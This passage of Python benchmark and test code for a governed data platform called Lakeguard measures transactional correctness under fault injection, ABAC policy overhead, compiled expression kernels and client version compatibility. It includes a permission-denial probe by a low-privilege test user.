    for feature in FEATURES:
        assert probes[feature].value != "no", (
            f"capability '{feature}' failed its live probe: "
            f"{probes[feature].detail}"
        )


def test_lakeguard_unique_on_multi_user_imperative(probes):
    """The paper's headline: only Lakeguard runs multi-user non-SQL code."""
    assert probes["multi_user_languages"].value not in ("no", "n/a")
    for name, column in PAPER_COMPETITORS.items():
        value = column["multi_user_languages"]
        assert value in ("no", "n/a", "SQL (DWH only)"), name


def test_lakeguard_unique_on_materialized_views(probes):
    assert probes["materialized_views"].value == "yes"
    assert all(
        c["materialized_views"] == "no" for c in PAPER_COMPETITORS.values()
    )


def test_benchmark_full_probe_suite(benchmark, probes):
    """Time the complete capability probe (builds a workspace, runs 9 probes)."""
    benchmark(probe_lakeguard)
