"""Transactional write-path acceptance — 8 agents racing one governed row.

The PR-10 acceptance experiment: eight concurrent agent sessions each run
``increments`` read-modify-increment transactions (BEGIN; SELECT; UPDATE
value = value + 1; COMMIT) against a single governed counter row, while a
seeded 1% chaos schedule fires on the transaction fault points
(``txn.commit`` / ``txn.write_file`` / ``txn.conflict_check``) and on
``storage.get``. The bar, per configuration:

- **zero isolation violations** — the final counter equals exactly the
  number of committed increments, which equals agents x increments: no
  lost updates, no double-applies, under conflicts and injected faults;
- **zero policy violations** — a row filter confines agents to the counter
  row (an unqualified UPDATE must never touch the locked sentinel row) and
  a MODIFY-less probe's INSERT is denied every time;
- **full accounting** — every transaction either committed or cleanly
  aborted (``begun == committed + aborted`` in ``txn_stats``).

Configurations: thread backend chaos-off, thread chaos-on, process backend
chaos-on — the final state must be identical across all of them. A
conflict-rate ablation (2 vs 8 agents) rides the chaos-off configuration.

Emits ``BENCH_txn_conflicts.json``.
"""

from __future__ import annotations

import threading
import time

from harness import print_table, write_bench_json

from repro.common.faults import FaultSpec
from repro.errors import (
    LakeguardError,
    PermissionDenied,
    RetryableError,
    TransactionAbortedError,
)
from repro.platform import Workspace

SEED = 424242
FAULT_RATE = 0.01
AGENTS = 8
INCREMENTS = 4
MAX_ATTEMPTS = 120

COUNTERS = "m.s.counters"
#: The sentinel row agents must never reach (their row filter hides it).
LOCKED_SLOT, LOCKED_VALUE = 99, 424242

RESULTS: dict = {}


def build_counter_workspace(worker_backend: str | None):
    """A governed counter table with 8 agent users confined by row filter."""
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("mallory")  # authenticated, USE only: the policy probe
    agent_names = [f"agent{i}" for i in range(AGENTS)]
    for name in agent_names:
        ws.add_user(name)
    ws.add_group("agents", agent_names)
    ws.catalog.create_catalog("m", owner="admin")
    ws.catalog.create_schema("m.s", owner="admin")
    cluster = ws.create_standard_cluster(
        name="txn-bench", worker_backend=worker_backend
    )
    admin = cluster.connect("admin")
    admin.sql(f"CREATE TABLE {COUNTERS} (slot int, value int)")
    admin.sql(
        f"INSERT INTO {COUNTERS} VALUES (0, 0), "
        f"({LOCKED_SLOT}, {LOCKED_VALUE})"
    )
    admin.sql("GRANT USE CATALOG ON m TO agents")
    admin.sql("GRANT USE SCHEMA ON m.s TO agents")
    admin.sql(f"GRANT SELECT ON {COUNTERS} TO agents")
    admin.sql(f"GRANT MODIFY ON {COUNTERS} TO agents")
    admin.sql("GRANT USE CATALOG ON m TO mallory")
    admin.sql("GRANT USE SCHEMA ON m.s TO mallory")
    admin.sql(f"GRANT SELECT ON {COUNTERS} TO mallory")
    # Agents only ever see (and can only ever touch) the counter row.
    admin.sql(
        f"ALTER TABLE {COUNTERS} SET ROW FILTER "
        "(slot = 0 OR NOT is_account_group_member('agents'))"
    )
    return ws, cluster, admin


def arm_chaos(ws: Workspace) -> None:
    """Seeded 1% schedule on the txn fault points and storage reads."""
    ws.catalog.faults.seed = SEED
    for point in ("txn.commit", "txn.write_file", "txn.conflict_check"):
        ws.catalog.faults.arm(
            point, FaultSpec(kind="raise", probability=FAULT_RATE)
        )
    ws.catalog.faults.arm(
        "storage.get",
        FaultSpec(kind="raise", probability=FAULT_RATE, only_in_query=True),
    )


def disarm_chaos(ws: Workspace) -> None:
    ws.catalog.faults.clear()


class AgentTally:
    """Thread-safe accounting of what the agent fleet actually did."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.commits = 0
        self.client_retries = 0
        self.policy_violations = 0
        self.probe_denials = 0
        self.exhausted = 0

    def snapshot(self) -> dict:
        return {
            "commits": self.commits,
            "client_retries": self.client_retries,
            "policy_violations": self.policy_violations,
            "probe_denials": self.probe_denials,
            "exhausted": self.exhausted,
        }


def run_agent(cluster, name: str, tally: AgentTally, probe) -> None:
    """One agent session: ``INCREMENTS`` read-modify-increment txns."""
    client = cluster.connect(name)
    for _ in range(INCREMENTS):
        committed = False
        for _attempt in range(MAX_ATTEMPTS):
            try:
                client.sql("BEGIN")
                # Pinned read: the value this transaction reasons about.
                client.sql(
                    f"SELECT value FROM {COUNTERS} WHERE slot = 0"
                ).collect()
                client.sql(f"UPDATE {COUNTERS} SET value = value + 1")
                client.sql("COMMIT")
                committed = True
                break
            except (TransactionAbortedError, RetryableError):
                # Conflict or injected fault: roll back any open txn and
                # re-run the whole read-modify-increment body.
                try:
                    client.sql("ROLLBACK")
                except LakeguardError:
                    pass  # COMMIT already closed it
                with tally.lock:
                    tally.client_retries += 1
                time.sleep(0.001)
        if committed:
            with tally.lock:
                tally.commits += 1
        else:
            with tally.lock:
                tally.exhausted += 1
        probe(tally)


def make_policy_probe(cluster):
    """A MODIFY-less principal hammering INSERT between agent increments."""
    mallory = cluster.connect("mallory")

    def probe(tally: AgentTally) -> None:
        try:
            mallory.sql(f"INSERT INTO {COUNTERS} VALUES (7, 777)")
            with tally.lock:
                tally.policy_violations += 1
        except PermissionDenied:
            with tally.lock:
                tally.probe_denials += 1

    return probe


def run_configuration(
    worker_backend: str | None, chaos: bool, agents: int = AGENTS
) -> dict:
    """Run the full agent fleet once; returns the config's scorecard."""
    ws, cluster, admin = build_counter_workspace(worker_backend)
    try:
        if chaos:
            arm_chaos(ws)
        tally = AgentTally()
        probe = make_policy_probe(cluster)
        started = time.perf_counter()
        threads = [
            threading.Thread(
                target=run_agent,
                args=(cluster, f"agent{i}", tally, probe),
            )
            for i in range(agents)
        ]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        elapsed = time.perf_counter() - started
        if chaos:
            disarm_chaos(ws)

        final = dict(
            admin.sql(
                f"SELECT slot, value FROM {COUNTERS}"
            ).collect()
        )
        stats = ws.catalog.txn_manager.stats_snapshot()
        card = {
            "worker_backend": worker_backend or "default",
            "chaos": chaos,
            "agents": agents,
            "increments_per_agent": INCREMENTS,
            "final_counter": final.get(0),
            "locked_row_value": final.get(LOCKED_SLOT),
            "elapsed_seconds": round(elapsed, 4),
            "isolation_violations": abs(
                final.get(0, 0) - tally.commits
            ) + abs(tally.commits - agents * INCREMENTS),
            **tally.snapshot(),
            "txn_begun": stats["begun"],
            "txn_committed": stats["committed"],
            "txn_aborted": stats["aborted"],
            "txn_conflicts": stats["conflicts"],
            "txn_retries": stats["retries"],
            "unaccounted_txns": stats["begun"]
            - stats["committed"]
            - stats["aborted"],
        }
        return card
    finally:
        ws.shutdown()


def _assert_clean(card: dict) -> None:
    assert card["exhausted"] == 0, card
    assert card["final_counter"] == card["agents"] * INCREMENTS, card
    assert card["isolation_violations"] == 0, card
    assert card["policy_violations"] == 0, card
    assert card["locked_row_value"] == LOCKED_VALUE, card
    assert card["unaccounted_txns"] == 0, card


def test_thread_backend_chaos_off():
    card = run_configuration("thread", chaos=False)
    _assert_clean(card)
    RESULTS["thread_chaos_off"] = card


def test_thread_backend_chaos_on():
    card = run_configuration("thread", chaos=True)
    _assert_clean(card)
    RESULTS["thread_chaos_on"] = card


def test_process_backend_chaos_on():
    card = run_configuration("process", chaos=True)
    _assert_clean(card)
    RESULTS["process_chaos_on"] = card


def test_conflict_rate_ablation():
    """Contention ablation: conflicts per commit at 2 vs 8 agents."""
    low = run_configuration("thread", chaos=False, agents=2)
    _assert_clean(low)
    high = RESULTS.get("thread_chaos_off") or run_configuration(
        "thread", chaos=False
    )
    RESULTS["ablation"] = {
        "agents_2_conflicts_per_commit": round(
            low["txn_conflicts"] / max(1, low["txn_committed"]), 4
        ),
        "agents_8_conflicts_per_commit": round(
            high["txn_conflicts"] / max(1, high["txn_committed"]), 4
        ),
        "agents_2": low,
    }


def test_final_state_identical_across_configurations():
    configs = [
        RESULTS.get("thread_chaos_off"),
        RESULTS.get("thread_chaos_on"),
        RESULTS.get("process_chaos_on"),
    ]
    configs = [c for c in configs if c]
    assert configs, "configuration tests must run first"
    finals = {(c["final_counter"], c["locked_row_value"]) for c in configs}
    assert finals == {(AGENTS * INCREMENTS, LOCKED_VALUE)}, finals


def test_write_json():
    assert RESULTS, "configuration tests must run first"
    write_bench_json(
        "txn_conflicts",
        params={
            "agents": AGENTS,
            "increments_per_agent": INCREMENTS,
            "fault_rate": FAULT_RATE,
            "seed": SEED,
            "chaos_points": [
                "txn.commit",
                "txn.write_file",
                "txn.conflict_check",
                "storage.get",
            ],
        },
        extra={"results": RESULTS},
    )
    print_table(
        "Transactional write path under contention and chaos",
        ["config", "final", "commits", "conflicts", "retries", "policy viol."],
        [
            [
                key,
                card["final_counter"],
                card["commits"],
                card["txn_conflicts"],
                card["txn_retries"],
                card["policy_violations"],
            ]
            for key, card in RESULTS.items()
            if key != "ablation"
        ],
    )


if __name__ == "__main__":
    test_thread_backend_chaos_off()
    test_thread_backend_chaos_on()
    test_process_backend_chaos_on()
    test_conflict_rate_ablation()
    test_final_state_identical_across_configurations()
    test_write_json()
    print("ok")
