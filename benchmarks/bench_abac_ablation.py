"""Ablation — ABAC tag policies vs explicit per-table policies.

Measures the cost of computing *effective* policies (tag lookups + policy
compilation at resolution time) against explicitly attached filters/masks,
as tables and policies scale. The point: tag-driven governance costs
microseconds per resolution while collapsing N-tables × M-policies
administration into M policy definitions.
"""

import pytest

from harness import best_time, print_table

from repro.catalog.abac import TagMaskPolicy, TagRowFilterPolicy, redact_builder
from repro.platform import Workspace
from repro.sql.parser import parse_expression

NUM_TABLES = 20


def build(num_tag_policies: int, explicit: bool):
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    cat = ws.catalog
    cat.create_catalog("m", owner="admin")
    cat.create_schema("m.s", owner="admin")
    cluster = ws.create_standard_cluster()
    admin = cluster.connect("admin")
    for i in range(NUM_TABLES):
        admin.sql(f"CREATE TABLE m.s.t{i} (id int, pii_col string, region string)")
        admin.sql(f"INSERT INTO m.s.t{i} VALUES (1,'x','US'),(2,'y','EU')")
        admin.sql(f"GRANT SELECT ON m.s.t{i} TO analysts")
        if explicit:
            admin.sql(f"ALTER TABLE m.s.t{i} SET ROW FILTER (region = 'US')")
            admin.sql(f"ALTER TABLE m.s.t{i} ALTER COLUMN pii_col SET MASK ('***')")
        else:
            cat.tags.tag_table(f"m.s.t{i}", "regional")
            cat.tags.tag_column(f"m.s.t{i}", "pii_col", "pii")
    admin.sql("GRANT USE CATALOG ON m TO analysts")
    admin.sql("GRANT USE SCHEMA ON m.s TO analysts")
    if not explicit:
        cat.tags.register(
            TagRowFilterPolicy("r0", "regional", parse_expression("region = 'US'"))
        )
        cat.tags.register(TagMaskPolicy("m0", "pii", redact_builder("***")))
        # Extra inert policies to scale the lookup work.
        for i in range(1, num_tag_policies):
            cat.tags.register(
                TagMaskPolicy(f"m{i}", f"other_tag_{i}", redact_builder("x"))
            )
    return ws, cluster


def query_all(cluster):
    alice = cluster.connect("alice")
    for i in range(NUM_TABLES):
        alice.sql(f"SELECT id FROM m.s.t{i}").collect()


@pytest.fixture(scope="module")
def sweep():
    rows = []
    ws_explicit, cluster_explicit = build(0, explicit=True)
    explicit_time = best_time(lambda: query_all(cluster_explicit), repeats=3)
    rows.append(["explicit per-table policies", f"{explicit_time * 1000:.1f}"])
    for num_policies in (2, 10, 50):
        ws, cluster = build(num_policies, explicit=False)
        t = best_time(lambda c=cluster: query_all(c), repeats=3)
        rows.append([f"ABAC, {num_policies} registered tag policies", f"{t * 1000:.1f}"])
    print_table(
        f"ABAC vs explicit policies ({NUM_TABLES} governed tables, full query sweep)",
        ["configuration", "sweep ms"],
        rows,
    )
    return rows


def test_abac_results_match_explicit():
    ws_a, cluster_a = build(2, explicit=False)
    ws_b, cluster_b = build(0, explicit=True)
    rows_a = cluster_a.connect("alice").sql("SELECT * FROM m.s.t0").collect()
    rows_b = cluster_b.connect("alice").sql("SELECT * FROM m.s.t0").collect()
    assert rows_a == rows_b == [(1, "***", "US")]


def test_abac_overhead_bounded(sweep):
    explicit = float(sweep[0][1])
    worst_abac = max(float(r[1]) for r in sweep[1:])
    assert worst_abac < explicit * 3, (
        f"ABAC resolution cost blew up: {worst_abac}ms vs {explicit}ms"
    )


def test_benchmark_abac_resolution(benchmark):
    ws, cluster = build(10, explicit=False)
    alice = cluster.connect("alice")
    benchmark(lambda: alice.sql("SELECT id FROM m.s.t0").collect())


def test_benchmark_explicit_resolution(benchmark):
    ws, cluster = build(0, explicit=True)
    alice = cluster.connect("alice")
    benchmark(lambda: alice.sql("SELECT id FROM m.s.t0").collect())
