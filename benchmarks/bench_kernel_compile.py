"""Compiled expression kernels vs the interpreter, quantified.

Three measurements over one expression-heavy workload (the shape a
governed scan actually pays for: row-filter predicates, masking CASEs,
derived numeric columns with repeated subexpressions):

(a) **Kernel speedup** — the same projection list evaluated by the tree
    interpreter and by one compiled kernel, per batch. This isolates the
    interpretation tax the compiler removes (tree dispatch per node,
    ``zip`` loops per element, no CSE).

(b) **Fusion ablation** — filter→project with and without fusing into a
    single kernel loop (the unfused path materializes the filtered
    intermediate batch).

(c) **End-to-end** — the same governed query (row filter + column mask)
    on two otherwise-identical clusters, ``engine_compile`` on vs off,
    confirming identical rows and end-to-end gain.

Emits ``BENCH_kernel_compile.json`` with all three tables plus the live
kernel-cache counters.
"""

from __future__ import annotations

import pytest

from harness import best_time, print_table, write_bench_json

from repro.engine.batch import ColumnBatch
from repro.engine.compile import KernelCompiler
from repro.engine.expressions import (
    Arithmetic,
    BooleanOp,
    BoundRef,
    CaseWhen,
    Comparison,
    EvalContext,
    FunctionCall,
    InList,
    IsNull,
    Literal,
    Not,
)
from repro.engine.types import FLOAT, INT, STRING, Field, Schema
from repro.platform import Workspace

NUM_ROWS = 40_000
END_TO_END_ROWS = 12_000
REPEATS = 5

RESULTS: dict = {}

SCHEMA = Schema(
    (
        Field("id", INT),
        Field("region", STRING),
        Field("amount", FLOAT),
        Field("a", INT),
        Field("b", INT),
    )
)

ID = BoundRef(0, "id", INT)
REGION = BoundRef(1, "region", STRING)
AMOUNT = BoundRef(2, "amount", FLOAT)
A = BoundRef(3, "a", INT)
B = BoundRef(4, "b", INT)


def _make_batch(num_rows: int) -> ColumnBatch:
    regions = ("US", "EU", "APAC", None)
    return ColumnBatch(
        SCHEMA,
        [
            list(range(num_rows)),
            [regions[i % 4] for i in range(num_rows)],
            [None if i % 11 == 0 else float(i % 500) for i in range(num_rows)],
            [i % 97 for i in range(num_rows)],
            [i % 31 for i in range(num_rows)],
        ],
    )


def _mask_guard() -> BooleanOp:
    """One eligibility predicate, built fresh per call.

    Column-mask injection clones the same guard into every masked column's
    ``CASE`` — each clone is a distinct tree, so the interpreter re-evaluates
    it per column while the kernel's structural CSE computes it once per row.
    """
    return BooleanOp(
        "AND",
        InList(REGION, ("US", "EU")),
        Comparison("<", Arithmetic("*", AMOUNT, Literal(1.15)), Literal(460.0)),
    )


def _heavy_projection() -> tuple:
    """A wide governed SELECT: eight masked columns plus derived outputs —
    the shape a PII-heavy table takes after policy injection."""

    def masked(value, redacted):
        return CaseWhen([(_mask_guard(), value)], redacted)

    return (
        masked(ID, Literal(-1)),
        masked(AMOUNT, Literal(0.0)),
        masked(Arithmetic("+", Arithmetic("*", AMOUNT, Literal(1.15)), A), Literal(0.0)),
        masked(A, Literal(-1)),
        masked(B, Literal(-1)),
        masked(Arithmetic("*", A, B), Literal(-1)),
        masked(Arithmetic("/", AMOUNT, Arithmetic("+", B, Literal(1))), Literal(0.0)),
        masked(Arithmetic("%", Arithmetic("+", A, ID), Literal(13)), Literal(-1)),
        Arithmetic("%", Arithmetic("+", Arithmetic("*", A, B), ID), Literal(97)),
        FunctionCall("coalesce", (AMOUNT, Literal(0.0))),
        IsNull(AMOUNT, negated=True),
        Not(Comparison(">", Arithmetic("*", AMOUNT, Literal(1.15)), Literal(57.5))),
    )


def _heavy_predicate():
    return BooleanOp(
        "AND",
        BooleanOp(
            "OR",
            InList(REGION, ("US", "EU")),
            Comparison(">", Arithmetic("*", AMOUNT, Literal(1.15)), Literal(200.0)),
        ),
        Comparison("<", Arithmetic("%", A, Literal(7)), Literal(5)),
    )


def test_kernel_vs_interpreter():
    """(a) One expression-heavy projection: interpreter vs compiled kernel."""
    batch = _make_batch(NUM_ROWS)
    ctx = EvalContext()
    exprs = _heavy_projection()
    kernel = KernelCompiler().compile_projection(exprs)
    assert kernel is not None

    # Same answers before any timing.
    assert kernel.eval_all(batch, ctx) == [e.eval(batch, ctx) for e in exprs]

    t_interp = best_time(
        lambda: [e.eval(batch, ctx) for e in exprs], repeats=REPEATS
    )
    t_kernel = best_time(lambda: kernel.eval_all(batch, ctx), repeats=REPEATS)
    speedup = t_interp / t_kernel

    print_table(
        f"Projection kernel vs interpreter ({NUM_ROWS} rows, "
        f"{len(exprs)} outputs)",
        ["evaluator", "batch ms", "speedup"],
        [
            ["interpreted", f"{t_interp * 1000:.1f}", "1.00x"],
            ["compiled", f"{t_kernel * 1000:.1f}", f"{speedup:.2f}x"],
        ],
    )
    RESULTS["kernel"] = {
        "num_rows": NUM_ROWS,
        "outputs": len(exprs),
        "interpreted_ms": t_interp * 1000,
        "compiled_ms": t_kernel * 1000,
        "speedup": speedup,
    }
    assert speedup >= 2.5, (
        f"compiled-over-interpreted speedup was only {speedup:.2f}x"
    )


def test_fused_filter_project_vs_unfused():
    """(b) filter→project fused into one loop vs two kernels + materialize."""
    batch = _make_batch(NUM_ROWS)
    ctx = EvalContext()
    cond = _heavy_predicate()
    exprs = _heavy_projection()
    compiler = KernelCompiler()
    fused = compiler.compile_filter_projection(cond, exprs)
    predicate = compiler.compile_predicate(cond)
    projection = compiler.compile_projection(exprs)
    assert fused is not None and predicate is not None and projection is not None

    def unfused():
        [mask] = predicate.eval_all(batch, ctx)
        filtered = batch.filter(mask)
        return projection.eval_all(filtered, ctx)

    assert fused.eval_all(batch, ctx) == unfused()

    t_unfused = best_time(unfused, repeats=REPEATS)
    t_fused = best_time(lambda: fused.eval_all(batch, ctx), repeats=REPEATS)
    speedup = t_unfused / t_fused

    print_table(
        f"Fused filter-project ({NUM_ROWS} rows)",
        ["plan", "batch ms", "speedup"],
        [
            ["two kernels + intermediate batch", f"{t_unfused * 1000:.1f}", "1.00x"],
            ["fused single loop", f"{t_fused * 1000:.1f}", f"{speedup:.2f}x"],
        ],
    )
    RESULTS["fusion"] = {
        "num_rows": NUM_ROWS,
        "unfused_ms": t_unfused * 1000,
        "fused_ms": t_fused * 1000,
        "speedup": speedup,
    }
    assert speedup >= 1.0, f"fusion made things slower: {speedup:.2f}x"


def _build_governed_workspace() -> Workspace:
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.s", owner="admin")
    ctx = ws.catalog.principals.context_for("admin")
    ws.catalog.create_table("main.s.sales", SCHEMA, owner="admin")
    regions = ("US", "EU", "APAC")
    ws.catalog.write_table(
        "main.s.sales",
        {
            "id": list(range(END_TO_END_ROWS)),
            "region": [regions[i % 3] for i in range(END_TO_END_ROWS)],
            "amount": [float(i % 500) for i in range(END_TO_END_ROWS)],
            "a": [i % 97 for i in range(END_TO_END_ROWS)],
            "b": [i % 31 for i in range(END_TO_END_ROWS)],
        },
        ctx,
    )
    admin = ws.create_standard_cluster(name="setup").connect("admin")
    admin.sql("GRANT USE CATALOG ON main TO analysts")
    admin.sql("GRANT USE SCHEMA ON main.s TO analysts")
    admin.sql("GRANT SELECT ON main.s.sales TO analysts")
    admin.sql(
        "ALTER TABLE main.s.sales SET ROW FILTER "
        "(amount > 10.0 AND (region = 'US' OR region = 'EU'))"
    )
    admin.sql(
        "ALTER TABLE main.s.sales ALTER COLUMN id SET MASK "
        "(CASE WHEN is_account_group_member('analysts') THEN id ELSE 0 - 1 END)"
    )
    return ws


def test_end_to_end_engine_compile():
    """(c) The same governed query, ``engine_compile`` on vs off."""
    ws = _build_governed_workspace()
    query = (
        "SELECT id, upper(region) AS r, "
        "amount * 1.15 + a AS gross, "
        "(a * b + id) % 97 AS shard, "
        "amount / (b + 1.0) AS unit "
        "FROM main.s.sales "
        "WHERE amount * 1.15 < 500.0 AND a % 7 < 5"
    )

    timings: dict[str, float] = {}
    reference: dict[str, list] = {}
    for label, enabled in (("interpreted", False), ("compiled", True)):
        cluster = ws.create_standard_cluster(
            name=label, engine_compile=enabled, num_executors=1
        )
        alice = cluster.connect("alice")
        reference[label] = alice.sql(query).collect()  # warm plan/kernel caches
        timings[label] = best_time(
            lambda: alice.sql(query).collect(), repeats=REPEATS
        )
        if enabled:
            RESULTS["kernel_cache"] = cluster.backend.kernel_cache.stats_snapshot()

    assert reference["compiled"] == reference["interpreted"]
    assert len(reference["compiled"]) > 0
    speedup = timings["interpreted"] / timings["compiled"]

    print_table(
        f"End-to-end governed query ({END_TO_END_ROWS} rows, FGAC on)",
        ["engine_compile", "query ms", "speedup"],
        [
            ["off", f"{timings['interpreted'] * 1000:.1f}", "1.00x"],
            ["on", f"{timings['compiled'] * 1000:.1f}", f"{speedup:.2f}x"],
        ],
    )
    RESULTS["end_to_end"] = {
        "num_rows": END_TO_END_ROWS,
        "interpreted_ms": timings["interpreted"] * 1000,
        "compiled_ms": timings["compiled"] * 1000,
        "speedup": speedup,
    }
    assert RESULTS["kernel_cache"]["insertions"] > 0
    assert speedup >= 1.0, f"compilation made the query slower: {speedup:.2f}x"


def test_write_json():
    """Persist all three measurements (runs after the benchmarks above)."""
    if "kernel" not in RESULTS or "end_to_end" not in RESULTS:
        pytest.skip("benchmarks did not run")
    path = write_bench_json(
        "kernel_compile",
        params={
            "num_rows": NUM_ROWS,
            "end_to_end_rows": END_TO_END_ROWS,
            "repeats": REPEATS,
        },
        extra={"results": RESULTS},
    )
    print(f"\nwrote {path}")
