"""E12 — §6.3: versionless Spark workloads.

A compatibility matrix of client protocol versions against the current
server, plus workload-environment pinning, plus timing old vs new clients —
backward compatibility must be free.
"""

import pytest

from harness import best_time, build_sales_workspace, print_table

from repro.connect.proto import PROTOCOL_VERSION
from repro.errors import VersionIncompatibleError
from repro.platform.workload_env import standard_environments

OPERATIONS = {
    "sql select": lambda c: c.sql("SELECT count(*) AS n FROM main.s.sales").collect(),
    "dataframe filter": lambda c: c.table("main.s.sales").filter("amount > 400").collect(),
    "aggregate": lambda c: c.sql(
        "SELECT region, sum(amount) AS t FROM main.s.sales GROUP BY region"
    ).collect(),
    "analyze schema": lambda c: c.table("main.s.sales").schema(),
}


@pytest.fixture(scope="module")
def stack():
    return build_sales_workspace(num_rows=5_000)


@pytest.fixture(scope="module")
def matrix(stack):
    ws, cluster, admin = stack
    rows = []
    for version in range(1, PROTOCOL_VERSION + 1):
        client = cluster.connect("alice", client_version=version)
        cells = [version]
        for op in OPERATIONS.values():
            try:
                op(client)
                cells.append("ok")
            except Exception as exc:  # noqa: BLE001 - matrix cell
                cells.append(f"FAIL:{type(exc).__name__}")
        rows.append(cells)
    print_table(
        f"Versionless matrix — clients v1..v{PROTOCOL_VERSION} against "
        f"server v{PROTOCOL_VERSION}",
        ["client version"] + list(OPERATIONS),
        rows,
    )
    return rows


def test_every_supported_version_runs_everything(matrix):
    for row in matrix:
        assert all(cell == "ok" for cell in row[1:]), row


def test_future_client_rejected_cleanly(stack):
    ws, cluster, admin = stack
    with pytest.raises(VersionIncompatibleError):
        cluster.connect("alice", client_version=PROTOCOL_VERSION + 1)


def test_workload_environment_pins_are_all_compatible():
    registry = standard_environments()
    rows = []
    for version in registry.versions():
        env = registry.get(version)
        rows.append(
            [
                env.version,
                env.python_version,
                env.client_protocol_version,
                "yes" if env.is_compatible_with_server(PROTOCOL_VERSION) else "NO",
            ]
        )
    print_table(
        "Workload environments vs current server",
        ["env", "python", "client protocol", "compatible"],
        rows,
    )
    assert all(r[3] == "yes" for r in rows)


def test_old_client_not_slower(stack):
    """Backward compatibility costs nothing measurable."""
    ws, cluster, admin = stack
    old = cluster.connect("alice", client_version=1)
    new = cluster.connect("alice", client_version=PROTOCOL_VERSION)
    query = "SELECT count(*) AS n FROM main.s.sales"
    t_old = best_time(lambda: old.sql(query).collect(), repeats=5)
    t_new = best_time(lambda: new.sql(query).collect(), repeats=5)
    print_table(
        "Old vs new client latency",
        ["client", "best ms"],
        [["v1", f"{t_old * 1000:.2f}"], [f"v{PROTOCOL_VERSION}", f"{t_new * 1000:.2f}"]],
    )
    assert t_old < t_new * 3  # generous: they should be ~equal


def test_benchmark_v1_client_query(benchmark, stack):
    ws, cluster, admin = stack
    client = cluster.connect("alice", client_version=1)
    benchmark(lambda: client.sql("SELECT count(*) AS n FROM main.s.sales").collect())


def test_benchmark_current_client_query(benchmark, stack):
    ws, cluster, admin = stack
    client = cluster.connect("alice", client_version=PROTOCOL_VERSION)
    benchmark(lambda: client.sql("SELECT count(*) AS n FROM main.s.sales").collect())
