"""Shared helpers for the benchmark suite.

Each ``bench_*.py`` regenerates one table or figure of the paper (see
DESIGN.md §4 and EXPERIMENTS.md). Benchmarks print their reproduction table
to stdout; run with ``pytest benchmarks/ --benchmark-only -s`` to see them.
"""

from __future__ import annotations

import hashlib
import json
import os
import time
from pathlib import Path

from repro.engine.executor import default_worker_backend
from repro.platform import Workspace


def build_sales_workspace(
    num_rows: int = 10_000,
    regions: tuple[str, ...] = ("US", "EU", "APAC"),
    sandbox_backend: str = "inprocess",
    **workspace_kwargs,
) -> tuple[Workspace, object, object]:
    """A workspace with a populated, granted ``main.s.sales`` table.

    Extra keyword arguments go to :class:`Workspace` (e.g. the persistence
    knobs ``store_backend``/``store_dir``/``result_cache_enabled``).
    Returns (workspace, standard_cluster, admin_client).
    """
    ws = Workspace(sandbox_backend=sandbox_backend, **workspace_kwargs)
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.s", owner="admin")
    cluster = ws.create_standard_cluster()
    admin = cluster.connect("admin")
    admin.sql(
        "CREATE TABLE main.s.sales (id int, region string, amount float, a int, b int)"
    )
    ctx = ws.catalog.principals.context_for("admin")
    ws.catalog.write_table(
        "main.s.sales",
        {
            "id": list(range(num_rows)),
            "region": [regions[i % len(regions)] for i in range(num_rows)],
            "amount": [float(i % 500) for i in range(num_rows)],
            "a": [i % 97 for i in range(num_rows)],
            "b": [i % 31 for i in range(num_rows)],
        },
        ctx,
    )
    admin.sql("GRANT USE CATALOG ON main TO analysts")
    admin.sql("GRANT USE SCHEMA ON main.s TO analysts")
    admin.sql("GRANT SELECT ON main.s.sales TO analysts")
    return ws, cluster, admin


def simple_udf_fn(a, b):
    """Table 2's 'Simple UDF': sum(a+b) — negligible compute per row."""
    return a + b


def hash_udf_fn(a, b):
    """Table 2's 'Hash UDF': 100 iterations of SHA-256 — CPU-dense."""
    data = f"{a}:{b}".encode()
    for _ in range(100):
        data = hashlib.sha256(data).digest()
    return data.hex()


def median_time(fn, repeats: int = 5) -> float:
    """Median wall time of ``fn()`` over ``repeats`` runs (seconds)."""
    samples = []
    for _ in range(repeats):
        start = time.perf_counter()
        fn()
        samples.append(time.perf_counter() - start)
    samples.sort()
    return samples[len(samples) // 2]


def best_time(fn, repeats: int = 7) -> float:
    """Minimum wall time of ``fn()`` — the standard noise-robust estimator."""
    best = float("inf")
    for _ in range(repeats):
        start = time.perf_counter()
        fn()
        best = min(best, time.perf_counter() - start)
    return best


def write_bench_json(
    name: str,
    params: dict,
    phases: list[dict] | None = None,
    extra: dict | None = None,
) -> Path:
    """Persist one benchmark's machine-readable result next to the suite.

    Writes ``BENCH_<name>.json`` with the run parameters and per-phase
    timings (typically derived from telemetry spans), so the performance
    trajectory is diffable across PRs.
    """
    path = Path(__file__).resolve().parent / f"BENCH_{name}.json"
    record = {
        "name": name,
        "recorded_at": time.strftime("%Y-%m-%dT%H:%M:%S%z"),
        # Scaling numbers are meaningless without the host's core count and
        # the execution backend the run actually used.
        "cpu_count": os.cpu_count(),
        "worker_backend": default_worker_backend(),
        "params": params,
        "phases": phases or [],
    }
    if extra:
        record.update(extra)
    path.write_text(json.dumps(record, indent=2, default=str) + "\n")
    return path


_RESULTS_HEADER = """\
Machine-readable benchmark records, rendered from benchmarks/BENCH_*.json.
This file is GENERATED — do not edit; regenerate after any benchmark run:

    PYTHONPATH=src python benchmarks/harness.py

(tests/test_documentation.py fails if it drifts from the JSON records.)
The paper-style reproduction tables print live via `pytest benchmarks/ -s`;
EXPERIMENTS.md discusses paper-vs-measured numbers.
"""


def _render_value(value, indent: int = 0) -> list[str]:
    pad = "  " * indent
    lines: list[str] = []
    if isinstance(value, dict):
        for key, val in value.items():
            if isinstance(val, (dict, list)) and val:
                lines.append(f"{pad}{key}:")
                lines.extend(_render_value(val, indent + 1))
            else:
                lines.append(f"{pad}{key}: {val if val != [] and val != {} else '(none)'}")
    elif isinstance(value, list):
        for item in value:
            if isinstance(item, (dict, list)):
                lines.append(f"{pad}-")
                lines.extend(_render_value(item, indent + 1))
            else:
                lines.append(f"{pad}- {item}")
    else:
